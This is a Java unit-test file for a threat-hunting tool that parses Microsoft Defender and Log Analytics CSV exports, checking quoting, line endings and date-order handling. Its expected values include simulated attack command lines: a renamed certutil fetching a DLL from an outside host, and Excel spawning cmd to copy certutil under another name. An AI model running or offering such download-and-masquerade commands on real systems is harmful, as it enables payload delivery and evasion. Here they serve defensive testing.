package dev.bazahunt.telemetry;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.bazahunt.rules.RuleColumns;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * CSV exports in the Defender portal's and Log Analytics' dialects, from fixtures written the way those
 * exporters write (BOM, CRLF, quoted fields with commas, quotes and line breaks), through the same parser
 * as JSON rows.
 */
class DefenderCsvExportTest {

    private static final String DEVICE = "4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c";

    private static byte[] resource(String name) {
        try (InputStream in = DefenderCsvExportTest.class.getResourceAsStream("/exports/" + name)) {
            return in.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] csv(String text) {
        return ("\uFEFF" + text.replace("\n", "\r\n")).getBytes(StandardCharsets.UTF_8);
    }

    private static DefenderCsvExport open(byte[] bytes, DefenderTable hint, CsvDateOrder order) throws IOException {
        return DefenderCsvExport.open(() -> new ByteArrayInputStream(bytes), hint, order);
    }

    /** Every row of the export through the lenient parser, as the replay job parses it. */
    private static CollectingSink parseAll(DefenderCsvExport export, DefenderTable hint) throws IOException {
        CollectingSink sink = new CollectingSink();
        DefenderRecordParser parser = new DefenderRecordParser(RuleColumns.builtIn());
        for (byte[] row = export.nextRow(); row != null; row = export.nextRow()) {
            parser.parse(row, 0, row.length, hint, sink);
        }
        return sink;
    }

    @Test
    void portalExportReadsEveryColumnAndDatetime() throws IOException {
        DefenderTable hint = DefenderTable.fromPath("DeviceFileEvents-portal.csv");
        try (DefenderCsvExport export = open(resource("DeviceFileEvents-portal.csv"), hint, CsvDateOrder.MDY)) {
            assertThat(export.tableSource()).isEqualTo("file name");
            CollectingSink sink = parseAll(export, hint);
            assertThat(sink.deadLetters).isEmpty();
            assertThat(sink.repairs).isEmpty();
            assertThat(sink.fileEvents).hasSize(3);

            DeviceFileEvent drop = sink.fileEvents.get(0);
            assertThat(DefenderTimestamps.format(drop.timestamp)).isEqualTo("2024-10-09T14:56:53.0000000Z");
            assertThat(drop.deviceId).isEqualTo(DEVICE);
            assertThat(drop.fileName).isEqualTo("mso4021.dll");
            assertThat(drop.folderPath).isEqualTo("C:\\Users\\Public\\qv7t\\mso4021.dll");
            assertThat(drop.sha256).as("an empty field is null").isNull();
            assertThat(drop.fileOriginUrl).isNull();
            assertThat(drop.fileSize).isEqualTo(284672L);
            assertThat(drop.initiatingProcessCommandLine)
                    .isEqualTo("qv7t.exe  -urlcache -split -f http://k3vd9xq0wz.top/r8p2m.php C:\\Users\\Public\\qv7t\\mso4021.dll");
            assertThat(drop.initiatingProcessId).isEqualTo(9316L);
            assertThat(DefenderTimestamps.format(drop.initiatingProcessCreationTime)).isEqualTo("2024-10-09T14:56:52.0000000Z");
            assertThat(drop.initiatingProcessParentCreationTime).as("Invalid date is null").isNull();
            assertThat(drop.reportId).isEqualTo(20417L);
            assertThat(drop.additionalFields).isEqualTo("{\"FileType\":\"PortableExecutable\"}");

            DeviceFileEvent notes = sink.fileEvents.get(1);
            assertThat(notes.folderPath).isEqualTo("C:\\Users\\mhollis\\Documents\\notes, draft.txt");
            assertThat(notes.initiatingProcessCommandLine).isEqualTo("notepad.exe \"C:\\Users\\mhollis\\Documents\\notes, draft.txt\"");
            assertThat(DefenderTimestamps.format(notes.initiatingProcessParentCreationTime)).isEqualTo("2024-10-10T08:00:01.0000000Z");

            DeviceFileEvent script = sink.fileEvents.get(2);
            assertThat(DefenderTimestamps.format(script.timestamp)).as("12 AM is midnight").isEqualTo("2024-10-10T00:05:07.0000000Z");
            assertThat(DefenderTimestamps.format(script.initiatingProcessCreationTime)).as("12 PM is noon")
                    .isEqualTo("2024-10-10T12:05:00.0000000Z");
            assertThat(script.initiatingProcessCommandLine).as("a quoted line break stays in the field")
                    .isEqualTo("powershell.exe -Command \"Write-Output a\r\nWrite-Output b\"");
            assertThat(script.additionalFields).isNull();
        }
    }

    @Test
    void recordsKnowTheLineTheyStartOn() throws IOException {
        try (DefenderCsvExport export = open(resource("DeviceFileEvents-portal.csv"), DefenderTable.DEVICE_FILE_EVENTS,
                CsvDateOrder.MDY)) {
            List<Long> lines = new ArrayList<>();
            while (export.nextRow() != null) {
                lines.add(export.rowLine());
            }
            assertThat(lines).containsExactly(2L, 3L, 4L);
        }
    }

    @Test
    void logAnalyticsExportTakesEachRowsTableFromTheTypeColumn() throws IOException {
        try (DefenderCsvExport export = open(resource("sentinel-mdy.csv"), null, CsvDateOrder.DMY)) {
            assertThat(export.tableSource()).isEqualTo("Type column");
            assertThat(export.dateOrder()).as("4/13/2025 settles month first").isEqualTo(CsvDateOrder.MDY);
            CollectingSink sink = parseAll(export, null);
            assertThat(sink.deadLetters).isEmpty();
            assertThat(sink.skippedTables).containsExactly("DeviceRegistryEvents");

            assertThat(sink.fileEvents).hasSize(1);
            assertThat(sink.processEvents).hasSize(1);
            DeviceFileEvent drop = sink.fileEvents.get(0);
            assertThat(DefenderTimestamps.format(drop.timestamp)).isEqualTo("2025-04-07T07:27:22.3930000Z");
            assertThat(DefenderTimestamps.format(drop.initiatingProcessCreationTime)).isEqualTo("2025-04-07T07:27:21.8800000Z");
            assertThat(DefenderTimestamps.format(drop.initiatingProcessParentCreationTime)).isEqualTo("2025-04-07T07:27:21.1150000Z");
            assertThat(drop.initiatingProcessParentId).isEqualTo(8840L);
            assertThat(drop.additionalFields).isEqualTo("{\"FileType\":\"PortableExecutable\"}");

            DeviceProcessEvent staging = sink.processEvents.get(0);
            assertThat(staging.processId).isEqualTo(8840L);
            assertThat(staging.processCreationTime).as("an empty datetime is null").isNull();
            assertThat(staging.initiatingProcessFileName).isEqualTo("EXCEL.EXE");
            assertThat(staging.processCommandLine).contains("mkdir", "&& copy", "certutil.exe");
        }
    }

    @Test
    void aDayAboveTwelveMakesTheWholeFileDayFirst() throws IOException {
        try (DefenderCsvExport export = open(resource("sentinel-dmy.csv"), null, CsvDateOrder.MDY)) {
            assertThat(export.dateOrder()).isEqualTo(CsvDateOrder.DMY);
            CollectingSink sink = parseAll(export, null);
            assertThat(sink.processEvents).extracting(event -> DefenderTimestamps.format(event.timestamp))
                    .containsExactly("2026-03-04T15:18:18.7900000Z", "2026-03-26T15:18:18.7900000Z");
        }
    }

    @Test
    void whenNoFieldSettlesTheOrderTheOptionDecides() throws IOException {
        byte[] ambiguous = csv("""
                DeviceId,ReportId,Timestamp [UTC],Type
                d1,1,"4/7/2025, 7:27:22.393 AM",DeviceProcessEvents
                """);
        for (CsvDateOrder order : CsvDateOrder.values()) {
            try (DefenderCsvExport export = open(ambiguous, null, order)) {
                assertThat(export.dateOrder()).isEqualTo(order);
                String expected = order == CsvDateOrder.MDY ? "2025-04-07T07:27:22.3930000Z" : "2025-07-04T07:27:22.3930000Z";
                assertThat(DefenderTimestamps.format(parseAll(export, null).onlyProcessEvent().timestamp)).isEqualTo(expected);
            }
        }
    }

    @Test
    void datesThatAreBothDayAndMonthFirstAreRefused() throws IOException {
        byte[] mixed = csv("""
                DeviceId,ReportId,Timestamp [UTC],Type
                d1,1,"26/03/2026, 15:18:18.790",DeviceProcessEvents
                d1,2,"3/27/2026, 15:18:18.790",DeviceProcessEvents
                """);
        try (DefenderCsvExport export = open(mixed, null, CsvDateOrder.MDY)) {
            assertThat(export.refusal()).isEqualTo("the export's dates are day first ('26/03/2026, 15:18:18.790') and"
                    + " month first ('3/27/2026, 15:18:18.790'); export it again in one locale");
            assertThat(export.nextRow()).isNull();
        }
    }

    @Test
    void withoutTypeOrFileNameTheHeaderNamesTheTableWhenOnlyOneFits() throws IOException {
        byte[] processes = csv("""
                Timestamp,DeviceId,ProcessId,ProcessCommandLine,InitiatingProcessFileName,ReportId
                "Oct 9, 2024 2:56:50 PM",d1,8840,cmd.exe /c mkdir x && copy certutil.exe x.exe,EXCEL.EXE,7
                """);
        try (DefenderCsvExport export = open(processes, null, CsvDateOrder.MDY)) {
            assertThat(export.tableSource()).isEqualTo("header");
            assertThat(parseAll(export, null).onlyProcessEvent().processId).isEqualTo(8840L);
        }
    }

    @Test
    void aHeaderThatFitsSeveralTablesIsRefusedWithTheFix() throws IOException {
        byte[] shared = csv("""
                Timestamp,DeviceId,FileName,ReportId
                "Oct 9, 2024 2:56:50 PM",d1,x.exe,7
                """);
        try (DefenderCsvExport export = open(shared, null, CsvDateOrder.MDY)) {
            assertThat(export.refusal()).startsWith("the export does not say its table")
                    .endsWith("Name the file after its table (e.g. DeviceProcessEvents.csv) or export the Type column");
            assertThat(export.nextRow()).isNull();
        }
        byte[] both = csv("""
                Timestamp,DeviceId,ProcessId,FileOriginUrl
                "Oct 9, 2024 2:56:50 PM",d1,1,http://x/
                """);
        try (DefenderCsvExport export = open(both, null, CsvDateOrder.MDY)) {
            assertThat(export.refusal()).contains("more than one table (DeviceProcessEvents, DeviceFileEvents)")
                    .isNotNull();
        }
    }

    @Test
    void aBadDatetimeInANonKeyColumnIsRepairedLikeInJson() throws IOException {
        byte[] bad = csv("""
                Timestamp,DeviceId,InitiatingProcessParentCreationTime,ReportId
                "Oct 9, 2024 2:56:50 PM",d1,yesterday,7
                """);
        try (DefenderCsvExport export = open(bad, DefenderTable.DEVICE_FILE_EVENTS, CsvDateOrder.MDY)) {
            CollectingSink sink = parseAll(export, DefenderTable.DEVICE_FILE_EVENTS);
            assertThat(sink.onlyFileEvent().initiatingProcessParentCreationTime).isNull();
            assertThat(sink.repairs).containsExactly(
                    "1: InitiatingProcessParentCreationTime: 'yesterday' is not an ISO-8601 datetime: "
                            + "expected 4 digits of year at position 0");
        }
    }

    @Test
    void anUnterminatedQuoteStopsTheFileWithAnError() throws IOException {
        byte[] broken = csv("""
                Timestamp,DeviceId,ReportId
                "Oct 9, 2024 2:56:50 PM",d1,7
                "Oct 9, 2024 2:56:51 PM,d1,8
                """);
        try (DefenderCsvExport export = open(broken, DefenderTable.DEVICE_FILE_EVENTS, CsvDateOrder.MDY)) {
            assertThat(export.nextRow()).isNotNull();
            assertThatThrownBy(export::nextRow).isInstanceOf(IOException.class);
        }
    }

    @Test
    void anEmptyFileHasNoRows() throws IOException {
        try (DefenderCsvExport export = open(new byte[0], null, CsvDateOrder.MDY)) {
            assertThat(export.nextRow()).isNull();
            assertThat(export.refusal()).isNull();
        }
    }
}
